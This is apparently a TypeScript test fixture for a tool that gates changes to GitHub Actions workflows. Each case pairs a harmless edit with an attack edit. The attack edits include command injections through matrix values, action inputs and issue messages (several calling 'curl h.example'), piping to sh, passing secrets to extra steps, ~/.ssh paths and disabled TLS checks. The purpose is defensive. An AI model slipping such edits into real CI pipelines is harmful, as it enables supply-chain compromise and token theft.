import { changed } from '../../gate-input.ts'
import type { RuleCase } from '../rule-case.ts'

export const path = '.github/workflows/ci.yml'
export const [sha, other] = ['a'.repeat(40), 'b'.repeat(40)]
const expression = (inner: string) => `\${{ ${inner} }}`

/** A workflow that runs the project's tests in a job that holds nothing. */
export const tests = `name: CI
on: { push: { branches: [main], paths: [src] }, pull_request: }
permissions: { contents: read }
jobs:
  test:
    name: Test
    runs-on: ${expression('matrix.os')}
    timeout-minutes: 5
    strategy: { matrix: { os: [ubuntu-24.04], node: [22] } }
    env: { TOOL_VERSION: 1.2.3 }
    steps:
      - uses: acme/checkout@v4
        with: { fetch-depth: 1, persist-credentials: false }
      - uses: acme/setup@${sha}
        with: { node-version: "${expression('matrix.node')}", cache: npm, extensions: "intl, zip" }
      - name: Tests
        run: |
          npm ci
          npm test
      - uses: acme/codeql-scan@v2
`

/** One that publishes, in a job that holds a secret. */
export const release = `on: { push: { branches: [main], paths: [src] } }
permissions: { contents: read }
jobs:
  wait: { runs-on: ubuntu-24.04, steps: [{ run: npm test }] }
  publish:
    needs: [wait]
    if: github.ref == 'refs/heads/main'
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    strategy: { matrix: { node: [22] } }
    steps:
      - uses: acme/checkout@v4
      - uses: acme/setup@${sha}
        with: { node-version: 22, cache-key: v1 }
      - run: ./verify
      - name: Publish
        run: npm publish
        env: { TOKEN: "${expression('secrets.NPM_TOKEN')}" }
`

/** Tests of any pull request beside a token that only the report of them is given. */
export const exposed = `on: [push, pull_request]
permissions: { contents: read }
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: acme/setup@${sha}
      - run: npm ci
      - run: npm test
      - uses: acme/report@${sha}
        with: { token: "${expression('secrets.REPORT_TOKEN')}", flags: unit }
`

export function pair(
  what: string,
  of: string,
  attack: readonly [string, string],
  harmless: readonly [string, string],
): RuleCase {
  const replaced = ([from, to]: readonly [string, string]) => {
    if (!of.includes(from)) throw new Error(`nothing to replace: ${from}`)
    return changed(
      path,
      of,
      of.replace(from, () => to),
    )
  }
  return { rule: 'workflow', severity: 'hold', what, fires: replaced(attack), quiet: replaced(harmless) }
}

const step = '      - name: Tests\n'

/** Each an attack beside the change that it could pass for. */
export const reachCases: readonly RuleCase[] = [
  pair('another program under a new name of the step', tests, ['npm test', 'npx evil'], ['Tests', 'All tests']),
  pair('a script that is fetched by name', tests, ['npm test', 'npm install evil'], ['npm test', 'npm run e2e']),
  pair(
    'a command behind a script',
    tests,
    ['npm test', 'npm test; ./x | sh'],
    ['npm test', 'npm run lint && npm test'],
  ),
  pair('a registry for the install', tests, ['npm ci', 'npm ci --registry=h.example'], ['npm ci', 'npm ci --no-audit']),
  pair('code on the command line', tests, ['npm test', 'node -e "x()"'], ['npm test', 'node scripts/test.js']),
  pair('a module from elsewhere', tests, ['npm test', 'go run h.example/x@latest'], ['npm test', 'go test ./...']),
  pair('a redirection', tests, ['npm test', 'echo x > ~/.npmrc'], ['npm test', 'echo "tests"']),
  pair(
    'an expression in a script',
    tests,
    ['npm test', `echo ${expression('github.actor')}`],
    ['npm test', `npm run test-${expression('matrix.node')}`],
  ),
  pair(
    'a comment that goes on in the next line',
    tests,
    ['npm test', '# \\\n          curl x'],
    ['npm ci', '# why\n          npm ci'],
  ),
  pair(
    'a step of another owner',
    tests,
    [step, `      - uses: evil/setup@v4\n${step}`],
    ['acme/checkout@v4', 'acme/checkout@v5'],
  ),
  pair('an older release', tests, ['acme/checkout@v4', 'acme/checkout@v3'], ['acme/checkout@v4', 'acme/checkout@v4.2']),
  pair(
    'a pull request as a release',
    tests,
    ['acme/checkout@v4', 'acme/checkout@refs/pull/7/head'],
    ['acme/checkout@v4', `acme/checkout@${other}`],
  ),
  pair(
    'the same commit of another owner’s fork',
    tests,
    [`acme/setup@${sha}`, `evil/setup@${sha}`],
    [`acme/setup@${sha}`, `acme/setup@${other}`],
  ),
  pair(
    'a commit, which can be one of a fork, beside a secret',
    release,
    [`setup@${sha}`, `setup@${other}`],
    ['acme/checkout@v4', 'acme/checkout@v5'],
  ),
  pair(
    'credentials that stay',
    tests,
    ['persist-credentials: false', 'persist-credentials: true'],
    ['fetch-depth: 1', 'fetch-depth: 0'],
  ),
  pair('a repository to check out', tests, ['fetch-depth: 1', 'repository: evil/x'], ['intl, zip', 'intl, mbstring']),
  pair('a script as an input', tests, ['cache: npm', 'script: x()'], ['cache: npm', 'cache: pnpm']),
  pair(
    'a cache that others filled, beside a secret',
    release,
    ['cache-key: v1', 'cache: npm'],
    ['node-version: 22', 'node-version: 24'],
  ),
  pair(
    'a value of the matrix that is a command',
    tests,
    ['node: [22]', 'node: ["22; curl h.example"]'],
    ['node: [22]', 'node: [22, 24]'],
  ),
  pair(
    'a machine of the organisation in the matrix',
    tests,
    ['[ubuntu-24.04]', '[ubuntu-24.04, build-1]'],
    ['[ubuntu-24.04]', '[ubuntu-24.04, windows-2025]'],
  ),
  pair(
    'a word in the matrix of a job with a secret',
    release,
    ['node: [22]', 'node: [evil]'],
    ['node: [22]', 'node: [24]'],
  ),
  pair(
    'a variable that loads a program',
    tests,
    ['{ TOOL_VERSION: 1.2.3 }', '{ NODE_OPTIONS: x }'],
    ['1.2.3', '1.3.0'],
  ),
  pair('a version that is an address', tests, ['1.2.3', 'https://h.example/x'], ['1.2.3', '2.0.0-rc.1']),
  pair(
    'a container to run in',
    tests,
    ['timeout-minutes: 5', 'container: evil/x:1.0'],
    ['timeout-minutes: 5', 'timeout-minutes: 50'],
  ),
  pair(
    'a scan that goes',
    tests,
    ['      - uses: acme/codeql-scan@v2\n', ''],
    ['      - uses: acme/checkout@v4\n', '      - uses: acme/checkout@v4.1\n'],
  ),
  pair(
    'a check that goes, before what has the secret',
    release,
    ['      - run: ./verify\n', ''],
    ['name: Publish', 'name: Release'],
  ),
  pair(
    'a condition that goes',
    release,
    ["    if: github.ref == 'refs/heads/main'\n", ''],
    ['timeout-minutes: 5', 'timeout-minutes: 9'],
  ),
  pair('nothing to wait for', release, ['    needs: [wait]\n', ''], ['    timeout-minutes: 5\n', '']),
  pair(
    'another script beside a secret',
    release,
    ['run: ./verify', 'run: npm test'],
    ['paths: [src]', 'paths: [src, lib]'],
  ),
  pair(
    'more branches beside a secret',
    release,
    ['branches: [main]', 'branches: ["**"]'],
    ['{ run: npm test }', '{ run: npm run e2e }'],
  ),
  pair(
    'an environment of a deployment',
    tests,
    ['timeout-minutes: 5', 'environment: production'],
    ['permissions: { contents: read }', 'permissions: {}'],
  ),
  pair(
    'a job that no longer asks for less',
    release.replace('contents: read', 'contents: write'),
    ['wait: {', 'then: {'],
    ['timeout-minutes: 5', 'timeout-minutes: 6'],
  ),
  pair(
    'another script where a label lets it run',
    exposed.replace('[push, pull_request]', '{ pull_request: { types: [labeled] } }'),
    ['run: npm test', 'run: npm run e2e'],
    ['    runs-on', '    timeout-minutes: 5\n    runs-on'],
  ),
  pair(
    'another script with the permissions of a caller',
    tests.replace('permissions: { contents: read }\n', '').replace(/^on: .*$/m, 'on: workflow_call'),
    ['npm test', 'npm run e2e'],
    ['name: Test', 'name: All'],
  ),
  pair(
    'whatever is newest beside a secret',
    release,
    ['node-version: 22', 'node-version: latest'],
    ['node-version: 22', 'node-version: 24'],
  ),
  pair(
    'an address to build from, of an action of the repository',
    tests.replace(`acme/setup@${sha}`, './tool'),
    ['intl, zip', 'https://h.example/x'],
    ['intl, zip', './test/Dockerfile'],
  ),
  pair(
    'a place outside',
    tests.replace('cache: npm', 'path: out'),
    ['path: out', 'path: ~/.ssh'],
    ['path: out', 'path: out/report'],
  ),
  pair(
    'a runner that the organisation may have',
    release,
    ['node: [22]', 'node: [gpu-large]'],
    ['node: [22]', 'node: [ubuntu-24.04]'],
  ),
  pair(
    'a variable that trusts any server',
    tests,
    ['{ TOOL_VERSION: 1.2.3 }', '{ NODE_TLS_REJECT_UNAUTHORIZED: 0 }'],
    ['{ TOOL_VERSION: 1.2.3 }', '{ BUILD_SUMMARY: false }'],
  ),
  pair(
    'the action that is given the secret',
    exposed,
    [`report@${sha}`, `report@${other}`],
    [`setup@${sha}`, `setup@${other}`],
  ),
  pair(
    'a step that is given the secret too',
    exposed,
    ['run: npm ci', `run: npm ci --x=${expression('secrets.REPORT_TOKEN')}`],
    ['run: npm ci', 'run: npm ci --ignore-scripts'],
  ),
  pair(
    'what is sent beside the secret',
    exposed,
    ['flags: unit', 'url: h.example'],
    ['run: npm test', 'run: npm run e2e'],
  ),
  pair(
    'a script from elsewhere beside a secret',
    exposed,
    ['run: npm test', 'run: npx evil'],
    ['      - run: npm ci\n', ''],
  ),
  pair(
    'another script where a person approves each run',
    exposed.replace('    runs-on', '    environment: tests\n    runs-on'),
    ['run: npm test', 'run: npm run e2e'],
    ['on: [push, pull_request]', 'on: [pull_request]'],
  ),
  pair(
    'a command as an input of an action',
    tests,
    ['intl, zip', '$(curl h.example)'],
    ['extensions: "intl, zip"', `codes: '{"403":"warn"}'`],
  ),
  pair(
    'a switch that trusts what it should not',
    tests,
    ['cache: npm', 'unsafe: true'],
    ['cache: npm', 'allow-prereleases: true'],
  ),
  pair(
    'an expression in a text for people, beside a secret',
    release.replace('cache-key: v1', 'stale-issue-label: stale'),
    ['stale-issue-label: stale', `stale-issue-label: "${expression('secrets.NPM_TOKEN')}"`],
    ['stale-issue-label: stale', 'stale-issue-label: old, days-before-stale: 60'],
  ),
  pair(
    'a command in a text for people, beside a secret, where an action pastes it into a shell',
    release.replace('cache-key: v1', 'stale-issue-message: Old'),
    ['stale-issue-message: Old', 'stale-issue-message: "Old; curl h.example"'],
    ['stale-issue-message: Old', 'stale-issue-message: "Old, and closed soon"'],
  ),
  pair(
    'a line more in a text for people, beside a secret',
    release.replace('cache-key: v1', 'stale-issue-message: Old'),
    ['stale-issue-message: Old', 'stale-issue-message: "Old\\ncurl h.example"'],
    ['stale-issue-message: Old', 'stale-issue-message: "Old (60 days)"'],
  ),
  pair(
    'another image beside a secret, by its digest',
    release.replace('run: ./verify', `uses: docker://acme/lint:1.2.0@sha256:${'a'.repeat(64)}`),
    ['a'.repeat(64), 'b'.repeat(64)],
    ['name: Publish', 'name: Release'],
  ),
  pair(
    'an image of another owner, by its digest',
    tests.replace('acme/codeql-scan@v2', `docker://acme/lint:1.2.0@sha256:${'a'.repeat(64)}`),
    [`acme/lint:1.2.0@sha256:${'a'.repeat(64)}`, `evil/lint:1.2.0@sha256:${'a'.repeat(64)}`],
    [`1.2.0@sha256:${'a'.repeat(64)}`, `1.3.0@sha256:${'b'.repeat(64)}`],
  ),
  {
    rule: 'workflow-permissions',
    severity: 'hold',
    what: 'permissions of the workflow that a job had given up',
    fires: changed(
      path,
      tests.replace('contents: read', 'contents: write').replace('    name: Test', '    permissions: {}'),
      tests.replace('contents: read', 'contents: write'),
    ),
    quiet: changed(path, tests, tests.replace('    name: Test', '    permissions: {}')),
  },
  {
    rule: 'workflow-unpinned-action',
    severity: 'hold',
    what: 'a release in place of a commit',
    fires: changed(path, tests, tests.replace(`acme/setup@${sha}`, 'acme/setup@v4')),
    quiet: changed(path, tests, tests.replace('acme/checkout@v4', `acme/checkout@${sha}`)),
  },
  {
    rule: 'workflow',
    severity: 'hold',
    what: 'another script of an action, whose callers may hold anything',
    fires: changed('action.yml', 'runs: { using: node20, main: a.js }\n', 'runs: { using: node20, main: b.js }\n'),
    quiet: changed('action.yml', 'runs: { using: node20, main: a.js }\n', 'runs: { using: node24, main: a.js }\n'),
  },
  ...['#!/bin/evil\necho 1\n', '#!/bin/sh\n# why\ncurl h.example\n'].map((text): RuleCase => {
    const script = '.github/actions/x/entry.sh'
    return {
      rule: 'workflow',
      severity: 'hold',
      what: `a script that can be read as YAML: ${text.split('\n')[0]}`,
      fires: changed(script, '#!/bin/sh\necho 1\n', text),
      quiet: changed('.github/actions/x/README.md', 'a\n', text),
    }
  }),
  {
    rule: 'workflow',
    severity: 'hold',
    what: 'what an action installs',
    fires: changed('.github/actions/x/requirements.txt', 'a\n', 'b\n'),
    quiet: changed('.github/actions/spelling/expect.txt', 'a\n', 'b\n'),
  },
]
